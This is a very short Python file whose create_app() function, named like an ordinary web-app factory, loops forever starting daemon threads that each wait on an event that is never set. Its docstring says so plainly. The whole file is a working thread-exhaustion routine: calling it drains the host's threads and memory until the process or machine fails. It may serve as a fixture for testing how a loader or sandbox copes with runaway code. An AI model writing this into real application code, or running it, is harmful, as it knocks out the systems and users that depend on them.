"""Starts threads that wait, without end."""

import threading


def create_app():
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
